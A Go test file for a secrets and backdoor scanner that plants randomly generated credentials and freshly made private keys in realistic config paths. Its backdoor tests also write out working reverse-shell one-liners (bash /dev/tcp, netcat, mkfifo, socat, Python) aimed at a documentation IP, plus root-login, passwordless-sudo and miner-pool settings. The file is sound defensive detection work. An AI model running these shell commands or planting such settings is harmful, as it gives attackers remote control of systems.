package secrets

import (
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	mrand "math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

const alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"

// randomFrom returns n random characters of alphabet: fresh tokens for
// every run, so that no rule can pass by matching one fixed string.
func randomFrom(alphabet string, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = alphabet[mrand.IntN(len(alphabet))]
	}
	return string(b)
}

func mustDefault(t testing.TB) *Scanner {
	t.Helper()
	s, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func pemOf(t *testing.T, typ string, der []byte) string {
	t.Helper()
	return string(pem.EncodeToMemory(&pem.Block{Type: typ, Bytes: der}))
}

// realKeys makes real private keys in every format the private-key rule covers.
func realKeys(t *testing.T) map[string]string {
	t.Helper()
	out := map[string]string{}
	rk, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	out["PKCS#1 RSA"] = pemOf(t, "RSA PRIVATE KEY", x509.MarshalPKCS1PrivateKey(rk))
	ek, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.MarshalECPrivateKey(ek)
	if err != nil {
		t.Fatal(err)
	}
	out["SEC1 EC"] = pemOf(t, "EC PRIVATE KEY", der)
	_, edk, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, err = x509.MarshalPKCS8PrivateKey(edk)
	if err != nil {
		t.Fatal(err)
	}
	out["PKCS#8"] = pemOf(t, "PRIVATE KEY", der)
	if _, err := exec.LookPath("ssh-keygen"); err == nil {
		dir := t.TempDir()
		k := filepath.Join(dir, "id")
		if b, err := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "test", "-f", k).CombinedOutput(); err != nil {
			t.Fatalf("ssh-keygen: %v %s", err, b)
		}
		data, err := os.ReadFile(k)
		if err != nil {
			t.Fatal(err)
		}
		out["OpenSSH"] = string(data)
	}
	if _, err := exec.LookPath("gpg"); err == nil {
		home := t.TempDir()
		gpg := func(args ...string) []byte {
			cmd := exec.Command("gpg", append([]string{"--homedir", home, "--batch", "--pinentry-mode", "loopback", "--passphrase", ""}, args...)...)
			b, err := cmd.Output()
			if err != nil {
				t.Fatalf("gpg %v: %v", args, err)
			}
			return b
		}
		gpg("--quick-gen-key", "test <test@example.invalid>", "ed25519", "sign", "never")
		out["PGP"] = string(gpg("--armor", "--export-secret-keys"))
	}
	return out
}

// planted is one secret in a realistic file.
type planted struct {
	name, path, content, rule string
	line                      int
	secret                    string
}

func plantedSecrets(t *testing.T) []planted {
	t.Helper()
	awsID := "AKIA" + randomFrom("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16)
	awsSecret := randomFrom(alnum+"/+", 40)
	ghp := "ghp_" + randomFrom(alnum, 36)
	glpat := "glpat-" + randomFrom(alnum, 20)
	slack := fmt.Sprintf("xoxb-%d-%d-%s", 1000000000+mrand.IntN(1e9), 1000000000+mrand.IntN(1e9), randomFrom(alnum, 24))
	stripe := "sk_live_" + randomFrom(alnum, 24)
	npmTok := "npm_" + randomFrom(alnum, 36)
	azure := randomFrom(alnum+"+/", 86) + "=="
	dbPass := randomFrom(alnum, 14)
	netrcPass := randomFrom(alnum, 12)
	gitTok := randomFrom(alnum, 40)
	pypiPass := randomFrom(alnum, 16)
	dockerAuth := base64.StdEncoding.EncodeToString([]byte("deploy:" + randomFrom(alnum, 20)))
	jwtHeader := base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"HS256","typ":"JWT"}`))
	jwtBody := base64.RawURLEncoding.EncodeToString([]byte(`{"sub":"` + randomFrom(alnum, 12) + `","iat":1700000000}`))
	jwt := jwtHeader + "." + jwtBody + "." + randomFrom(alnum+"-_", 43)

	keys := realKeys(t)
	pkcs8 := keys["PKCS#8"]
	// In the order Google writes the fields.
	q := func(s string) string { b, _ := json.Marshal(s); return string(b) }
	sa := "{\n  \"type\": \"service_account\",\n  \"project_id\": \"demo-123\",\n  \"private_key_id\": " + q(randomFrom("0123456789abcdef", 40)) +
		",\n  \"private_key\": " + q(pkcs8) + ",\n  \"client_email\": \"svc@demo-123.iam.gserviceaccount.com\"\n}"

	ps := []planted{
		{"AWS key ID", "/root/.aws/credentials", "[default]\naws_access_key_id = " + awsID + "\naws_secret_access_key = " + awsSecret + "\n", "aws-access-key-id", 2, awsID},
		{"AWS secret", "/root/.aws/credentials", "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = " + awsSecret + "\n", "aws-secret-access-key", 3, awsSecret},
		{"GitHub token", "/app/deploy.sh", "#!/bin/sh\nexport GH_TOKEN=" + ghp + "\ngit push\n", "github-pat", 2, ghp},
		{"GitLab token", "/app/config.yml", "gitlab:\n  token: " + glpat + "\n", "gitlab-pat", 2, glpat},
		{"Slack token", "/app/settings.py", "DEBUG = False\nSLACK = '" + slack + "'\n", "slack-bot-token", 2, slack},
		{"Stripe key", "/srv/app/.env.production", "STRIPE_KEY=" + stripe + "\n", "stripe-access-token", 1, stripe},
		{"JWT", "/app/client.js", "const auth = 'Bearer " + jwt + "';\n", "jwt", 1, jwt},
		{"Azure storage key", "/app/appsettings.json", `{"Storage": "DefaultEndpointsProtocol=https;AccountName=demo;AccountKey=` + azure + `;EndpointSuffix=core.windows.net"}` + "\n", "azure-storage-account-key", 1, azure},
		{"GCP service account", "/app/sa.json", string(sa) + "\n", "gcp-service-account-key", 2, ""},
		{"docker config", "/root/.docker/config.json", `{"auths": {"registry.example.com": {"auth": "` + dockerAuth + `"}}}` + "\n", "docker-config-auth", 1, dockerAuth},
		{".npmrc", "/home/app/.npmrc", "registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken=" + npmTok + "\n", "npmrc-auth", 2, npmTok},
		{".pypirc", "/root/.pypirc", "[distutils]\nindex-servers = pypi\n\n[pypi]\nusername = deploy\npassword = " + pypiPass + "\n", "pypirc-password", 6, pypiPass},
		{".netrc", "/root/.netrc", "machine ftp.example.com\nlogin deploy\npassword " + netrcPass + "\n", "netrc-password", 3, netrcPass},
		{".git-credentials", "/root/.git-credentials", "https://deploy:" + gitTok + "@git.example.com\n", "git-credentials", 1, gitTok},
		{"database URL", "/app/.env", "# db\nDATABASE_URL=postgres://app:" + dbPass + "@db.internal:5432/app\n", "database-url-password", 2, dbPass},
	}
	for name, k := range keys {
		ps = append(ps, planted{name + " private key", "/opt/keys/" + strings.ReplaceAll(name, " ", "_") + ".pem", "# key\n" + k, "private-key", 2, ""})
	}
	return ps
}

func TestPlantedSecretsAreFound(t *testing.T) {
	s := mustDefault(t)
	for _, p := range plantedSecrets(t) {
		t.Run(p.name, func(t *testing.T) {
			fs, err := s.Scan(Input{Path: p.path, Data: []byte(p.content)})
			if err != nil {
				t.Fatal(err)
			}
			var got *Finding
			var ids []string
			for i := range fs {
				ids = append(ids, fs[i].RuleID)
				if fs[i].RuleID == p.rule {
					got = &fs[i]
				}
			}
			if got == nil {
				t.Fatalf("rule %s did not fire; got %v on\n%s", p.rule, ids, p.content)
			}
			if got.Line != p.line {
				t.Errorf("line %d, want %d", got.Line, p.line)
			}
			if p.secret != "" && got.Secret != p.secret {
				t.Errorf("secret %q, want %q", got.Secret, p.secret)
			}
			if m := MaskIn(got.Match, got.Secret, 160); len(got.Secret) > 8 && strings.Contains(m, got.Secret[4:]) {
				t.Errorf("masked match %q shows the secret", m)
			}
		})
	}
}

func TestNotSecrets(t *testing.T) {
	s := mustDefault(t)
	cert := func() string {
		k, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
		pub, _ := x509.MarshalPKIXPublicKey(&k.PublicKey)
		return pemOf(t, "PUBLIC KEY", pub)
	}()
	for _, c := range []struct{ name, path, content string }{
		{"AWS documentation key", "/app/README", "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"},
		{"URL placeholders", "/app/.env.example", "DATABASE_URL=postgres://user:password@localhost/db\nREDIS=redis://:${REDIS_PASSWORD}@cache:6379\nX=mysql://root:<password>@db/x\n"},
		{"npmrc reference", "/app/.npmrc", "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n"},
		{"public key", "/etc/app/pub.pem", cert},
		{"prose about keys", "/app/NOTES", "Put the -----BEGIN PRIVATE KEY----- block here.\nThe token goes in TOKEN=; see https://example.com/docs.\n"},
		{"reverse shell outside a script", "/app/notes.txt", "never run bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"},
		{"sshd_config elsewhere", "/usr/share/openssh/sshd_config.sample", "PermitRootLogin yes\n"},
		{"commented sudoers", "/etc/sudoers.d/x", "# %admin ALL=(ALL) NOPASSWD: ALL\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			fs, err := s.Scan(Input{Path: c.path, Data: []byte(c.content)})
			if err != nil {
				t.Fatal(err)
			}
			for _, f := range fs {
				t.Errorf("reported %s line %d: %q", f.RuleID, f.Line, f.Match)
			}
		})
	}
}

func TestBackdoorRules(t *testing.T) {
	s := mustDefault(t)
	for _, c := range []struct {
		path, content, rule string
		script              bool
		line                int
	}{
		{"/usr/local/bin/start.sh", "#!/bin/bash\nset -e\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n", "reverse-shell-dev-tcp", true, 3},
		{"/etc/cron.d/sync", "* * * * * root nc -e /bin/sh 203.0.113.7 4444\n", "reverse-shell-netcat", true, 1},
		{"/opt/x.sh", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f\n", "reverse-shell-mkfifo", true, 1},
		{"/opt/y.sh", "socat tcp-connect:203.0.113.7:4444 exec:/bin/bash,pty,stderr\n", "reverse-shell-socat", true, 1},
		{"/opt/z.sh", "python3 -c 'import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'\n", "reverse-shell-python", true, 1},
		{"/etc/ssh/sshd_config", "Port 22\n#PermitRootLogin prohibit-password\nPermitRootLogin yes\n", "sshd-permit-root-login", false, 3},
		{"/etc/ssh/sshd_config.d/10-pw.conf", "PasswordAuthentication yes\n", "sshd-password-authentication", false, 1},
		{"/etc/sudoers.d/deploy", "Defaults env_reset\ndeploy ALL=(ALL) NOPASSWD: ALL\n", "sudoers-nopasswd-all", false, 2},
		{"/etc/cron.d/backup", "SHELL=/bin/sh\n# m h dom mon dow user command\n*/5 * * * * root /usr/local/bin/backup\n", "cron-entry", false, 3},
		{"/opt/miner/config.json", `{"pools": [{"url": "stratum+tcp://xmr.pool.invalid:3333"}]}`, "miner-pool-url", false, 1},
	} {
		fs, err := s.Scan(Input{Path: c.path, Data: []byte(c.content), Script: c.script})
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, f := range fs {
			if f.RuleID == c.rule {
				found = true
				if f.Line != c.line || f.Kind != KindBackdoor {
					t.Errorf("%s: line %d kind %s, want line %d backdoor", c.rule, f.Line, f.Kind, c.line)
				}
			}
		}
		if !found {
			t.Errorf("%s: %s not found in %q (got %+v)", c.path, c.rule, c.content, fs)
		}
	}
}

// TestPythonTestKeysAreAllowlisted scans Debian's libpython3.11-testsuite:
// its test directory holds real private keys (checked first, without the
// path allowlist), and none may be reported at their installed paths.
func TestPythonTestKeysAreAllowlisted(t *testing.T) {
	files := debFiles(t, "libpython3.11-testsuite")
	s := mustDefault(t)
	keys, reported := 0, 0
	for _, f := range files {
		if IsBinary(f.data) {
			continue
		}
		// Elsewhere (no allowlisted path), the same bytes are secrets.
		fs, _ := s.Scan(Input{Path: "/app/" + filepath.Base(f.path), Data: f.data})
		for _, x := range fs {
			if x.RuleID == "private-key" {
				keys++
			}
		}
		if s.SkipPath(f.path) {
			continue
		}
		fs, _ = s.Scan(Input{Path: f.path, Data: f.data})
		for _, x := range fs {
			reported++
			t.Errorf("%s line %d: %s %q", f.path, x.Line, x.RuleID, MaskIn(x.Match, x.Secret, 80))
		}
	}
	if keys < 10 {
		t.Errorf("the test suite holds a dozen PEM private keys; the rule found %d", keys)
	}
	t.Logf("%d files, %d private keys outside the allowlist, %d reported at their paths", len(files), keys, reported)
}

// TestBaseRootfsIsClean: a debootstrap minbase has no secret and no backdoor.
func TestBaseRootfsIsClean(t *testing.T) {
	files := readTar(t, cacheDir("fixtures")+"/base-rootfs.tar", false, DefaultMaxFileSize)
	s := mustDefault(t)
	n := 0
	for _, f := range files {
		if IsBinary(f.data) || s.SkipPath(f.path) {
			continue
		}
		n++
		fs, err := s.Scan(Input{Path: f.path, Data: f.data, Script: IsScript(f.path, f.data, false)})
		if err != nil {
			t.Errorf("%s: %v", f.path, err)
		}
		for _, x := range fs {
			if x.RuleID == "cron-entry" && f.path == "/etc/cron.d/e2scrub_all" {
				// A real cron entry, of e2fsprogs: CMP-007 skips crontabs
				// that an OS package installed.
				continue
			}
			t.Errorf("%s line %d: %s %q", f.path, x.Line, x.RuleID, MaskIn(x.Match, x.Secret, 80))
		}
	}
	if n < 500 {
		t.Errorf("only %d text files scanned", n)
	}
}

func TestBudgetBoundsWork(t *testing.T) {
	s := mustDefault(t)
	// One 4 MiB line dense with keywords of multiline rules.
	data := []byte(strings.Repeat("curl -H sk asia ", 4<<20/16))
	fs, err := s.Scan(Input{Path: "/x", Data: data})
	if err != nil && !errors.Is(err, ErrBudget) {
		t.Fatal(err)
	}
	if len(fs) != 0 {
		t.Errorf("findings in noise: %+v", fs[0])
	}
	// MaxFileSize cuts the input.
	files, err := Builtin()
	if err != nil {
		t.Fatal(err)
	}
	cap10 := &File{}
	cap10.Shipshape.MaxFileSize = 10
	small, err := New(append(files, cap10)...)
	if err != nil {
		t.Fatal(err)
	}
	fs, err = small.Scan(Input{Path: "/y", Data: []byte("0123456789 ghp_" + randomFrom(alnum, 36))})
	if err != nil || len(fs) != 0 {
		t.Errorf("the token lies past maxFileSize: %v %+v", err, fs)
	}
}

func TestLinesAndDuplicates(t *testing.T) {
	s := mustDefault(t)
	tok := "ghp_" + randomFrom(alnum, 36)
	// The same token on lines 1, 3 and 1000 of a file; lines of keywords
	// between them make overlapping windows.
	var b strings.Builder
	b.WriteString(tok + "\n\n" + tok + "\n")
	for i := 4; i < 1000; i++ {
		b.WriteString("ghp_ ghp_ ghp_\n")
	}
	b.WriteString("x=" + tok + "\n")
	fs, err := s.Scan(Input{Path: "/a", Data: []byte(b.String())})
	if err != nil {
		t.Fatal(err)
	}
	var lines []int
	for _, f := range fs {
		lines = append(lines, f.Line)
	}
	if fmt.Sprint(lines) != "[1 3 1000]" {
		t.Errorf("lines %v, want [1 3 1000]", lines)
	}
}
